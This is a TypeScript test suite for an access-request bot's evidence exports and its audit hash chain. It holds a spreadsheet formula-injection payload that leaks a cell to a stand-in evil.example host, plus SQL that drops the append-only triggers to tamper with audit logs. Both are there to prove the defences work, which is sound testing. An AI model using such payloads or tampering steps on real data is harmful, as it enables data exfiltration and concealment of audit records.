/**
 * Evidence an auditor takes away (issue 19): `access-bot export requests` compared against the
 * database row by row (CSV and JSON Lines, escaping and formula injection included), and
 * `access-bot audit verify` on a good database and on tampered copies of it (an event edited,
 * deleted, reordered; events deleted from the end, which only the head an export recorded shows).
 */
import assert from 'node:assert/strict';
import { copyFileSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { openDatabase } from '../../src/adapters/sqlite/db.js';
import { requestRow } from '../../src/app/exportRequests.js';
import { REQUEST_COLUMNS } from '../../src/domain/evidence.js';
import { runAudit, runExport } from '../../src/evidence-cli.js';
import { catalogYaml } from '../support/fixtures.js';
import { GROUPS, Harness, PEOPLE, waitUntil } from '../support/harness.js';
import { runEntry } from '../support/process.js';

const { alice, bob, carol, dave } = PEOPLE;

const CATALOG =
  catalogYaml({
    applications: [
      {
        id: 'okta-console',
        name: 'Okta admin console',
        owners: ['bob@example.com'],
        roles: [
          { id: 'read-only', name: 'Read-only', group: GROUPS.readOnly, durations: ['2s', '4h'], approvers: ['owners'] },
          { id: 'super-admin', name: 'Super admin', group: GROUPS.superAdmin, durations: ['2s', '4h'], approval: 'auto' },
        ],
      },
    ],
  }) + 'bundles:\n  - { id: console-all, name: Console all, parts: [okta-console/read-only, okta-console/super-admin], approval: auto }\n';

/** A hostile reason: a formula, quotes, a comma and a line break. */
const HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"click"), then "quotes", commas\nand a second line';

/** RFC 4180 records: quoted fields may hold commas, doubled quotes, CR and LF. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let field = '';
  let record: string[] = [];
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"';
      i++;
    } else if (quoted && c === '"') quoted = false;
    else if (quoted) field += c;
    else if (c === '"') quoted = true;
    else if (c === ',') {
      record.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i++;
    } else field += c;
  }
  assert.equal(field + record.join(''), '', 'the export ends with a line end');
  return records;
}

const day = (offset: number) => new Date(Date.now() + offset * 86_400_000).toISOString().slice(0, 10);

describe('evidence: exports and the audit chain', () => {
  let h: Harness;
  const dir = mkdtempSync(join(tmpdir(), 'access-bot-evidence-'));
  const ids: Record<'granted' | 'denied' | 'pending' | 'bundle', string> = { granted: '', denied: '', pending: '', bundle: '' };
  const env = () => ({ DATABASE_PATH: h.config.databasePath });

  before(async () => {
    h = await new Harness({ catalog: CATALOG }).start();
    ids.granted = await h.request(alice, { duration: '2s', reason: 'Rotating the signing keys' });
    await h.click(bob, ids.granted, 'approve');
    ids.denied = await h.request(dave, { duration: '4h', reason: HOSTILE });
    const deny = await h.click(bob, ids.denied, 'deny');
    assert.ok(deny.triggerId);
    const modal = await h.slack.waitForView((v) => v.userId === bob.slackId && v.view.callback_id === 'deny_reason');
    await h.driver.submitView(bob.slackId, modal.id, { reason: { reason: '-1: use the read-only dashboard, @dave' } });
    ids.pending = await h.request(carol, { duration: '4h', reason: 'Checking, the "audit" page' });
    ids.bundle = await h.request(carol, { app: 'bundle:console-all', role: 'bundle', duration: '2s', reason: 'Both consoles for an incident' });
    await waitUntil(() => h.bot.store.getRequest(ids.granted)!.state === 'revoked' && h.bot.store.getRequest(ids.bundle)!.state === 'revoked', 15_000, 'granted, then expired');
    await waitUntil(() => h.bot.store.getRequest(ids.denied)!.state === 'denied', 5000, 'denied');
    await h.idle();
  });
  after(async () => {
    await h?.stop();
    rmSync(dir, { recursive: true, force: true });
  });

  function exportTo(format: 'csv' | 'jsonl', from = day(-1), to = day(1)): { code: number; text: string; said: string } {
    const file = join(dir, `export-${format}-${from}.${format}`);
    const said: string[] = [];
    const code = runExport(['requests', '--from', from, '--to', to, '--format', format, '--out', file], env(), () => assert.fail('--out writes nothing to stdout'), (l) => said.push(l));
    return { code, text: code === 0 ? readFileSync(file, 'utf8') : '', said: said.join('\n') };
  }

  test('export requests as CSV: one row per request, compared against the database; escaping and formula injection', () => {
    const head = h.bot.store.auditHead();
    const { code, text, said } = exportTo('csv');
    assert.equal(code, 0, said);
    assert.match(said, /4 requests created .* exported as csv/);
    const records = parseCsv(text);
    assert.deepEqual(records[0], [...REQUEST_COLUMNS], 'the header names the stable columns');
    const trailer = records.at(-1)!;
    assert.equal(trailer.length, 1);
    assert.match(trailer[0]!, new RegExp(`^# audit-head seq=${head.seq} sha256=${head.hash} rows=4 scope=requests_${day(-1)}\\.\\.${day(1)} exported=\\d{4}-`));
    const rows = records.slice(1, -1).map((r) => Object.fromEntries(REQUEST_COLUMNS.map((c, i) => [c, r[i]!])) as Record<string, string>);
    const made = [ids.granted, ids.denied, ids.pending, ids.bundle].map((id) => h.bot.store.getRequest(id)!);
    assert.deepEqual(
      rows.map((r) => r.request_id),
      made.sort((a, b) => a.createdAt - b.createdAt || (a.id < b.id ? -1 : 1)).map((r) => r.id),
      'in the order they were made',
    );
    for (const row of rows) {
      const r = h.bot.store.getRequest(row.request_id!)!;
      const iso = (ms: number | null) => (ms === null ? '' : new Date(ms).toISOString());
      assert.equal(row.jira_key, r.jiraKey ?? '');
      assert.equal(row.requester_email, r.requesterEmail);
      assert.equal(row.outcome, r.state);
      assert.equal(row.requested_at, iso(r.createdAt));
      assert.equal(row.decided_at, iso(r.decidedAt));
      assert.equal(row.granted_at, iso(r.grantedAt));
      assert.equal(row.expires_at, iso(r.expiresAt));
      assert.equal(row.revoked_at, iso(r.revokedAt));
      const votes = h.bot.store.approversOf(r.id).filter((a) => a.decision === 'approve');
      if (r.decidedBy !== 'policy') {
        assert.equal(row.approvers, votes.map((a) => a.email).join('; '));
        assert.equal(row.approved_at, votes.map((a) => iso(a.decidedAt)).join('; '));
      }
      // Every cell is what the row builder makes of the database, escaped as CSV.
      const expected = requestRow(h.bot.store, r);
      for (const c of REQUEST_COLUMNS) {
        const v = expected[c] ?? '';
        assert.equal(row[c], /^[=+\-@\t\r]/.test(v) ? `'${v}` : v, `${r.id} ${c}`);
      }
    }
    const rowOf = (id: string) => rows.find((r) => r.request_id === id)!;
    const [granted, denied, pending, bundle] = [rowOf(ids.granted), rowOf(ids.denied), rowOf(ids.pending), rowOf(ids.bundle)];
    assert.equal(granted.approvers, 'bob@example.com');
    assert.equal(granted.outcome, 'revoked');
    assert.equal(granted.revoke_cause, 'expired');
    assert.equal(granted.grants, `okta:${GROUPS.readOnly}`);
    assert.equal(denied.reason, `'${HOSTILE}`, 'a formula is neutralised, quotes, commas and the line break survive');
    assert.equal(denied.decision_reason, "'-1: use the read-only dashboard, @dave");
    assert.equal(denied.outcome, 'denied');
    assert.equal(pending.outcome, 'pending');
    assert.equal(pending.approvers, '');
    assert.equal(pending.reason, 'Checking, the "audit" page');
    assert.equal(bundle.kind, 'bundle');
    assert.equal(bundle.approvers, 'policy');
    assert.equal(bundle.grants, `okta:${GROUPS.readOnly}; okta:${GROUPS.superAdmin}`);
    const parts = h.bot.store.partsOf(ids.bundle);
    assert.equal(
      bundle.parts,
      parts.map((p) => `${p.appId}/${p.roleId}: revoked granted ${new Date(p.grantedAt!).toISOString()} revoked ${new Date(p.revokedAt!).toISOString()}`).join('; '),
    );
    // The raw text: the formula cell is quoted (it holds quotes, a comma, a line break) and starts with '.
    assert.ok(text.includes(`"'=HYPERLINK(""https://evil.example/?""&A1,""click""), then ""quotes"", commas\nand a second line"`));
  });

  test('export requests as JSON Lines: the same rows, values as they are; the head as the last line', () => {
    const { code, text, said } = exportTo('jsonl');
    assert.equal(code, 0, said);
    const lines = text.trimEnd().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
    const trailer = lines.at(-1)!;
    assert.deepEqual(trailer.audit_head, { seq: h.bot.store.auditHead().seq, sha256: h.bot.store.auditHead().hash });
    assert.equal(trailer.rows, 4);
    const rows = lines.slice(0, -1);
    assert.deepEqual(rows.map((r) => Object.keys(r)), rows.map(() => [...REQUEST_COLUMNS]));
    for (const row of rows) assert.deepEqual(row, requestRow(h.bot.store, h.bot.store.getRequest(row.request_id as string)!));
    assert.equal(rows.find((r) => r.request_id === ids.denied)!.reason, HOSTILE, 'JSON keeps the value as it is');
  });

  test('the range is whole UTC days; bad input is a clear usage error', () => {
    const empty = exportTo('csv', '2020-01-01', '2020-03-31');
    assert.equal(empty.code, 0, empty.said);
    assert.equal(parseCsv(empty.text).length, 2, 'the header and the trailer');
    const said: string[] = [];
    assert.equal(runExport(['requests', '--from', '2026-02-30', '--to', '2026-03-01'], env(), () => undefined, (l) => said.push(l)), 2);
    assert.match(said.join('\n'), /--from "2026-02-30" is not a date \(YYYY-MM-DD\)/);
    assert.equal(runExport(['requests', '--from', '2026-03-02', '--to', '2026-03-01'], env(), () => undefined, (l) => said.push(l)), 2);
    assert.match(said.join('\n'), /--to 2026-03-01 is before --from 2026-03-02/);
    assert.equal(runExport(['requests', '--from', day(0), '--to', day(0), '--format', 'xlsx'], env(), () => undefined, (l) => said.push(l)), 2);
    assert.match(said.join('\n'), /--format xlsx is not one of csv, jsonl/);
  });

  test('export review: a campaign that does not exist is refused, naming it (exports of reviews: access-review.test.ts)', () => {
    const said: string[] = [];
    assert.equal(runExport(['review', 'q4-payments'], env(), () => assert.fail('nothing exported'), (l) => said.push(l)), 1);
    assert.match(said.join('\n'), /no access review q4-payments \(access-bot review list shows them\)/);
  });

  test('audit verify: OK with the head on a good database, also against the head an export recorded', async () => {
    const out: string[] = [];
    const head = h.bot.store.auditHead();
    assert.equal(runAudit(['verify'], env(), (l) => out.push(l), (l) => out.push(l)), 0);
    assert.match(out.join('\n'), new RegExp(`^OK: ${head.seq} audit events, the chain is intact\\. Head: seq ${head.seq}, sha256 ${head.hash}\\.$`));
    const file = join(dir, 'for-verify.csv');
    assert.equal(runExport(['requests', '--from', day(-1), '--to', day(1), '--out', file], env(), () => undefined, () => undefined), 0);
    out.length = 0;
    assert.equal(runAudit(['verify', '--export', file], env(), (l) => out.push(l), (l) => out.push(l)), 0);
    assert.match(out.join('\n'), /The head recorded in .* \(seq \d+\) is in the log with that hash\./);
  });

  describe('audit verify on tampered copies of the database', () => {
    let clean: string;
    let exported: string;
    before(async () => {
      exported = join(dir, 'before-tampering.jsonl');
      assert.equal(runExport(['requests', '--from', day(-1), '--to', day(1), '--format', 'jsonl', '--out', exported], env(), () => undefined, () => undefined), 0);
      // Stopped, so its last writes are in the file; then each test tampers with a copy.
      await h.bot.stop(1000);
      clean = join(dir, 'clean.db');
      copyFileSync(h.config.databasePath, clean);
    });

    /** A copy of the database after `sql` ran with the append-only triggers dropped (anyone with the file can). */
    function tampered(name: string, sql: string): string {
      const path = join(dir, `${name}.db`);
      copyFileSync(clean, path);
      const db = openDatabase(path);
      db.exec('DROP TRIGGER audit_events_no_update; DROP TRIGGER audit_events_no_delete;');
      db.exec(sql);
      db.close();
      return path;
    }

    function verify(path: string, ...args: string[]): { code: number; out: string } {
      const out: string[] = [];
      const code = runAudit(['verify', ...args], { DATABASE_PATH: path }, (l) => out.push(l), (l) => out.push(l));
      return { code, out: out.join('\n') };
    }

    test('an edited event is the first broken link: its contents no longer match its hash', () => {
      const r = verify(tampered('edited', "UPDATE audit_events SET actor = 'U0MALLORY' WHERE seq = 5"));
      assert.equal(r.code, 1);
      assert.match(r.out, /^BROKEN: audit event seq 5 \(\w+ of request req_[\w-]+, at .* UTC\): its contents hash to [0-9a-f]{64}, not to the stored [0-9a-f]{64}: its request_id, at, actor or data was changed after it was written\. 4 events before it verified\.$/);
    });

    test('a deleted event breaks the link of the event after it', () => {
      const r = verify(tampered('deleted', 'DELETE FROM audit_events WHERE seq = 5'));
      assert.equal(r.code, 1);
      assert.match(r.out, /^BROKEN: audit event seq 6 .*: prev_hash is [0-9a-f]{64}, but the event before it \(seq 4\) has hash [0-9a-f]{64}: an event before it was deleted, inserted, moved or changed and re-hashed \(seq jumps from 4 to 6\)\./);
    });

    test('reordered events break the chain where the order changed', () => {
      const r = verify(tampered('reordered', 'UPDATE audit_events SET seq = -1 WHERE seq = 5; UPDATE audit_events SET seq = 5 WHERE seq = 6; UPDATE audit_events SET seq = 6 WHERE seq = -1;'));
      assert.equal(r.code, 1);
      assert.match(r.out, /^BROKEN: audit event seq 5 .*: prev_hash is [0-9a-f]{64}, but the event before it \(seq 4\) has hash/);
    });

    test('a changed type column shows too', () => {
      const r = verify(tampered('retyped', "UPDATE audit_events SET type = 'approved_by_mallory' WHERE seq = 3"));
      assert.equal(r.code, 1);
      assert.match(r.out, /^BROKEN: audit event seq 3 \(approved_by_mallory .*: its type column says "approved_by_mallory" but its hashed data says "\w+": the type column was changed\./);
    });

    test("events deleted from the end: the chain alone holds, the export's head shows it; through the real CLI", async () => {
      const path = tampered('truncated', 'DELETE FROM audit_events WHERE seq > (SELECT MAX(seq) - 2 FROM audit_events)');
      assert.equal(verify(path).code, 0, 'a shorter chain is still a chain');
      const { code, out } = await runEntry('src/cli.ts', ['audit', 'verify', '--export', exported], { DATABASE_PATH: path });
      assert.equal(code, 1, out);
      assert.match(out, /^BROKEN: the head an export recorded \(seq (\d+), sha256 [0-9a-f]{64}\) is not in the log, which ends at seq \d+: events were deleted from its end\./);
      assert.equal(verify(clean, '--export', exported).code, 0, 'the untouched database holds that head');
    });
  });
});
